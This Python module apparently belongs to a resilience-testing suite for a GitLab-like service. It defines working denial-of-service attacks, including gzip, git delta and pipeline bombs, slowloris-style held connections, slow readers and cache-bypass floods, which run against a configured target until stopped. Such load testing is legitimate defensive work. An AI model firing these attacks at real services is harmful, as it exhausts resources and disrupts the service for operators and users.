"""The attacks: each coroutine in `ATTACKS` goes on until it is cancelled, and counts its answers."""

import asyncio
import base64
import contextlib
import functools
import json
import os
import signal
import sys
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine
from itertools import count
from typing import Any

from scripts.abuse import inputs, repositories
from scripts.abuse.environment import (
    AttackTarget,
    connect,
    fetch_in_turn,
    read_all,
    repeat,
    request_head,
    session,
    status_of,
)

FORMATS = ("tar", "tar.gz", "zip", "tar.bz2")


async def abandoned_archives(place: AttackTarget, answers: "Counter[str]") -> None:
    """A stranger asks for everything in all forms, from the API and the edge, and leaves with the first bytes."""
    numbers = count()

    async def ask(_number: int) -> str:
        number = next(numbers)
        base = (place.api_url, place.edge_url)[number % 2]
        url = f"{base}/{place.public}/-/archive/main/app{number}.{FORMATS[number // 2 % len(FORMATS)]}"
        reader, writer = await connect(url)
        try:
            writer.write(request_head("GET", url))
            return await status_of(reader)
        finally:
            writer.transport.abort()

    await repeat(20, ask, answers, rest=0.1)


async def archives_of_a_bomb(place: AttackTarget, answers: "Counter[str]") -> None:
    """The archive of a tree of a million paths, and of each folder in it, by a user."""
    async with session(place.as_attacker) as http:

        async def ask(number: int) -> str:
            path = "/".join(["d1"] * (number % 4))
            url = f"{place.project(place.public)}/repository/archive.tar?sha=bomb&path={path}"
            async with http.get(url) as answer:
                await answer.content.read(1000)
                return str(answer.status)

        await repeat(8, ask, answers, rest=0.1)


FILE = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"


async def artifact_members(place: AttackTarget, answers: "Counter[str]") -> None:
    """One archive of very many files, of which one after the other is read."""
    async with session(place.as_attacker) as http:
        for members in (150_000, 60_000):
            job = await inputs.running_job(place, http, FILE)
            files = {f"files/{number:06}.txt": "x" for number in range(members)}
            status = await job.upload(files).send(http)
            answers[f"{members} members {status}"] += 1
            await job.finish().send(http)
            if status == "201":
                break
        urls = f"{place.project(place.mine)}/jobs/{job.id}/artifacts/files/"

        async def fetch(number: int) -> str:
            async with http.get(f"{urls}{number:06}.txt") as answer:
                return await read_all(answer)

        await repeat(8, fetch, answers)


MEGABYTE = 2**20


async def bodies_of_strangers(place: AttackTarget, answers: "Counter[str]") -> None:
    """40 bodies of 10 MB at once, the last bytes held back."""
    urls = [
        f"{place.api_url}/api/v4/projects",
        f"{place.api_url}/-/sign_in",
        f"{place.api_url}/api/v4/jobs/request",
    ]

    async def slowly() -> AsyncIterator[bytes]:
        yield b'{"name": "'
        for _ in range(10):
            yield b"x" * (MEGABYTE - 10)
        await asyncio.sleep(5)

    async with session({"Content-Type": "application/json"}) as http:

        async def send(number: int) -> str:
            async with http.post(urls[number % len(urls)], data=slowly()) as answer:
                return await read_all(answer)

        await repeat(40, send, answers)


async def gzip_bombs(place: AttackTarget, answers: "Counter[str]") -> None:
    """Ten gigabytes of nothing in ten megabytes, to the API and to git."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(1024)) + packer.flush()
    urls = [
        (f"{place.api_url}/api/v4/projects", "application/json"),
        (f"{place.api_url}/{place.public}.git/git-upload-pack", "application/x-git-upload-pack-request"),
        (f"{place.api_url}/{place.mine}.git/git-receive-pack", "application/x-git-receive-pack-request"),
    ]
    async with session({"Content-Encoding": "gzip", **place.as_attacker}) as http:

        async def send(number: int) -> str:
            url, content_type = urls[number % len(urls)]
            async with http.post(url, data=bomb, headers={"Content-Type": content_type}) as answer:
                return await read_all(answer)

        await repeat(9, send, answers)


EACH = 150


async def idle_connections(place: AttackTarget, answers: "Counter[str]") -> None:
    """Silence, half a head, half a body: at the API and at the edge."""
    half_a_body = request_head(
        "POST", f"{place.api_url}/api/v4/projects", content_length="1000", private_token=place.attacker
    )
    openings = [
        (url, said)
        for url in (place.api_url, place.edge_url)
        for said in (b"", b"GET / HTTP/1.1\r\nhost: x\r\n", half_a_body)
    ]

    async def hold(number: int) -> str:
        url, said = openings[number % len(openings)]
        reader, writer = await connect(url)
        answers["opened"] += 1
        try:
            writer.write(said)
            heard = await reader.read(100)
            return heard.split()[1].decode() if heard.startswith(b"HTTP/1.1 ") else "closed"
        finally:
            writer.close()

    await repeat(EACH * len(openings), hold, answers, rest=0.2)


async def unread_answers(place: AttackTarget, answers: "Counter[str]") -> None:
    """Requests one after the other on a connection whose answers nobody takes."""
    urls = [
        f"{place.project(place.public)}/repository/commits?per_page=100",
        f"{place.edge_url}/{place.public}/-/raw/main/{repositories.MEDIUM_FILE}",
    ]

    async def ask(number: int) -> str:
        url = urls[number % len(urls)]
        _, writer = await connect(url)
        answers["opened"] += 1
        try:
            while True:
                writer.write(request_head("GET", url) * 50)
                async with asyncio.timeout(5):
                    await writer.drain()
        except TimeoutError:
            await asyncio.sleep(20)
            return "held"
        finally:
            writer.transport.abort()

    await repeat(EACH, ask, answers, rest=0.2)


async def uncollapsed(place: AttackTarget, answers: "Counter[str]") -> None:
    """Requests that may not be answered from the store, all for the same file."""
    url = f"{place.edge_url}/{place.public}/-/raw/main/{repositories.MEDIUM_FILE}"
    await fetch_in_turn([url], 100, answers, {"Cache-Control": "no-store, no-cache"})


async def unawaited_archives(place: AttackTarget, answers: "Counter[str]") -> None:
    """Strangers ask for archives that take long to pack, each for another one, and leave before the first byte."""
    numbers = count()

    async def ask(_number: int) -> str:
        number = next(numbers)
        query = f"?path=src/{number % 100}" if number % 4 else ""
        url = f"{place.edge_url}/{place.public}/-/archive/main/app{number}.tar.bz2{query}"
        _, writer = await connect(url)
        try:
            writer.write(request_head("GET", url))
            await asyncio.sleep(0.5)
            return "left"
        finally:
            writer.close()

    await repeat(20, ask, answers)


CLIENTS = 80


async def silent_fetches(place: AttackTarget, answers: "Counter[str]") -> None:
    """Strangers who begin to fetch and then say nothing."""
    url = f"{place.api_url}/{place.public}.git/git-upload-pack"

    async def fetch(_number: int) -> str:
        reader, writer = await connect(url)
        answers["opened"] += 1
        try:
            writer.write(
                request_head(
                    "POST",
                    url,
                    content_type="application/x-git-upload-pack-request",
                    transfer_encoding="chunked",
                )
            )
            heard = await reader.read(100)
            return heard.split()[1].decode() if heard else "closed"
        finally:
            writer.close()

    await repeat(CLIENTS, fetch, answers, rest=0.2)


async def unread_clones(place: AttackTarget, answers: "Counter[str]") -> None:
    """Strangers who ask for a whole clone and take none of it."""
    url = f"{place.api_url}/{place.public}.git/git-upload-pack"
    want = f"want {place.large_change} ofs-delta side-band-64k\n"
    wanted = repositories.pkt_line(want.encode()) + b"0000" + repositories.pkt_line(b"done\n")

    async def fetch(_number: int) -> str:
        reader, writer = await connect(url)
        try:
            content_type = "application/x-git-upload-pack-request"
            writer.write(
                request_head("POST", url, content_type=content_type, content_length=str(len(wanted))) + wanted
            )
            status = await status_of(reader)
            answers[status] += 1
            await asyncio.sleep(20 if status == "200" else 0.2)
            return "left"
        finally:
            writer.transport.abort()

    await repeat(CLIENTS, fetch, answers, rest=0.2)


async def delta_bomb(place: AttackTarget, answers: "Counter[str]") -> None:
    """Pushes of a pack of about a kilobyte that unpacks to gigabytes."""
    url = f"{place.api_url}/{place.mine}.git/git-receive-pack"
    body = repositories.push_body("refs/heads/large", repositories.delta_bomb())
    credentials = base64.b64encode(f"attacker:{place.attacker}".encode()).decode()
    headers = {
        "Authorization": f"Basic {credentials}",
        "Content-Type": "application/x-git-receive-pack-request",
    }
    async with session(headers) as http:

        async def push(_number: int) -> str:
            async with http.post(url, data=body) as answer:
                return await read_all(answer)

        await repeat(4, push, answers)


async def invitations(place: AttackTarget, answers: "Counter[str]") -> None:
    """Invitations to new addresses, and confirmations of addresses that are a stranger's."""
    numbers = count()
    async with session(place.as_attacker) as http:

        async def invite(_number: int) -> str:
            address = f"nobody{next(numbers)}@example.org"
            body = {"email": address, "access_level": 10}
            async with http.post(f"{place.project(place.mine)}/invitations", json=body) as answer:
                if answer.status != 201:
                    return str(answer.status)
                return str((await answer.json())["status"])

        async def claim(_number: int) -> str:
            body = {"email": f"somebody{next(numbers)}@example.org"}
            async with http.post(f"{place.api_url}/api/v4/user/emails", json=body) as answer:
                return f"address {answer.status}"

        async def both(number: int) -> str:
            return await (invite if number % 2 else claim)(number)

        await repeat(8, both, answers)


BOMB = "".join(
    f"bomb{number}:\n  trigger:\n    include: .gitlab-ci.yml\n    strategy: depend\n" for number in range(6)
)


async def pipeline_bomb(place: AttackTarget, answers: "Counter[str]") -> None:
    """One push of a file that triggers itself six times, and another of a trigger of its own project."""
    project = place.project(place.mine)
    async with session(place.as_attacker) as http:
        for branch, text in (
            ("bomb", BOMB),
            ("loop", f"again:\n  parallel: 50\n  trigger:\n    project: {place.mine}\n    branch: loop\n"),
        ):
            actions = [{"action": "create", "file_path": ".gitlab-ci.yml", "content": text}]
            body = {"branch": branch, "start_branch": "main", "commit_message": "Bomb", "actions": actions}
            async with http.post(f"{project}/repository/commits", json=body) as answer:
                answers[f"commit {answer.status}"] += 1
        most = 0
        while True:
            async with http.get(f"{project}/pipelines?per_page=1") as answer:
                most = max(most, int(answer.headers.get("X-Total", "0")))
            answers["pipelines"] = most
            await asyncio.sleep(0.5)


SLOW_READERS = 100
PIECE = 4096


async def large_files(place: AttackTarget, answers: "Counter[str]") -> None:
    """A file of 200 MB, whole, in every way that there is."""
    file = f"{place.project(place.public)}/repository/files/{repositories.LARGE_FILE}"
    raw = f"{place.public}/-/raw/main/{repositories.LARGE_FILE}"
    urls = [
        f"{file}?ref=main",
        f"{file}/raw?ref=main",
        f"{place.edge_url}/{raw}",
    ]
    await fetch_in_turn(urls, len(urls) * 2, answers, place.as_attacker)


async def slow_readers(place: AttackTarget, answers: "Counter[str]") -> None:
    """Readers of 9 MB who take 4 KiB a second."""
    url = f"{place.project(place.public)}/repository/files/{repositories.MEDIUM_FILE}/raw?ref=main"

    async def read(_number: int) -> str:
        reader, writer = await connect(url)
        writer.write(request_head("GET", url, private_token=place.attacker))
        answers[await status_of(reader)] += 1
        while not reader.at_eof():
            await reader.read(PIECE)
            await asyncio.sleep(1)
        writer.close()
        return "ended"

    await repeat(SLOW_READERS, read, answers, rest=0.5)


async def large_changes(place: AttackTarget, answers: "Counter[str]") -> None:
    """A commit of very many lines: its statistics, its diff, a comparison."""
    repository = f"{place.project(place.public)}/repository"
    sha = place.large_change
    urls = [
        f"{repository}/commits/{sha}",
        f"{repository}/commits/{sha}/diff",
        f"{repository}/compare?from=start&to=main",
    ]
    await fetch_in_turn(urls, 8, answers, place.as_attacker)


async def git_bomb(place: AttackTarget, answers: "Counter[str]") -> None:
    """Pages out of a tree of a million paths that is ten objects."""
    tree = f"{place.project(place.public)}/repository/tree?ref=bomb&recursive=true&per_page=20"
    urls = [tree, f"{tree}&page=20000", f"{tree}&pagination=keyset", f"{tree}&path=d9"]
    await fetch_in_turn(urls, 8, answers, place.as_attacker)


Attack = Callable[[AttackTarget, "Counter[str]"], Coroutine[Any, Any, None]]

ATTACKS: dict[str, Attack] = {
    "large-files": large_files,
    "slow-readers": slow_readers,
    "large-changes": large_changes,
    "git-bomb": git_bomb,
    "silent-fetches": silent_fetches,
    "unread-clones": unread_clones,
    "delta-bomb": delta_bomb,
    "idle-connections": idle_connections,
    "unread-answers": unread_answers,
    "bodies-of-strangers": bodies_of_strangers,
    "gzip-bombs": gzip_bombs,
    "pipeline-bomb": pipeline_bomb,
    "abandoned-archives": abandoned_archives,
    "archives-of-a-bomb": archives_of_a_bomb,
    "artifact-members": artifact_members,
    "invitations": invitations,
    "uncollapsed": uncollapsed,
    "unawaited-archives": unawaited_archives,
    **{name: functools.partial(inputs.attack, name) for name in inputs.INPUTS},
}


async def attack_until_terminated(name: str, place: AttackTarget) -> "Counter[str]":
    """Goes on until SIGTERM."""
    answers: Counter[str] = Counter()
    task = asyncio.create_task(ATTACKS[name](place, answers))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, task.cancel)
    with contextlib.suppress(asyncio.CancelledError):
        await task
    return answers


if __name__ == "__main__":
    os.nice(10)  # what is measured is the service, not who gets the processor
    print(
        json.dumps(
            asyncio.run(attack_until_terminated(sys.argv[1], AttackTarget.from_json(sys.stdin.read())))
        )
    )
